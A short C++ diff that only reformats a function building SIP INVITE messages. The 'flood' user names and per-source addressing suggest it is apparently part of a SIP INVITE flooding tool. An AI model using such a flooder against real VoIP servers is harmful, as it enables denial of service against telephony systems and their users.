@@ -91,13 +91,23 @@ void render(const Args& a, Source* s) {
   const std::string port = std::to_string(s->port);
   s->text = "INVITE sip:" + a.user + "@" + a.dst_ip + ":" + std::to_string(a.dst_port) +
             " SIP/2.0\r\n"
-            "Via: SIP/2.0/UDP " + s->ip + ":" + port + ";branch=z9hG4bKfl" + n + "\r\n"
+            "Via: SIP/2.0/UDP " +
+            s->ip + ":" + port + ";branch=z9hG4bKfl" + n +
+            "\r\n"
             "Max-Forwards: 70\r\n"
-            "From: <sip:flood@" + s->ip + ">;tag=f" + n + "\r\n"
-            "To: <sip:" + a.user + "@" + a.dst_ip + ">\r\n"
-            "Call-ID: fl" + n + "@" + s->ip + "\r\n"
+            "From: <sip:flood@" +
+            s->ip + ">;tag=f" + n +
+            "\r\n"
+            "To: <sip:" +
+            a.user + "@" + a.dst_ip +
+            ">\r\n"
+            "Call-ID: fl" +
+            n + "@" + s->ip +
+            "\r\n"
             "CSeq: 1 INVITE\r\n"
-            "Contact: <sip:flood@" + s->ip + ":" + port + ">\r\n"
+            "Contact: <sip:flood@" +
+            s->ip + ":" + port +
+            ">\r\n"
             "Content-Length: 0\r\n\r\n";
   for (std::size_t at = s->text.find(n); at != std::string::npos; at = s->text.find(n, at + 1)) {
     s->number_at.push_back(at);
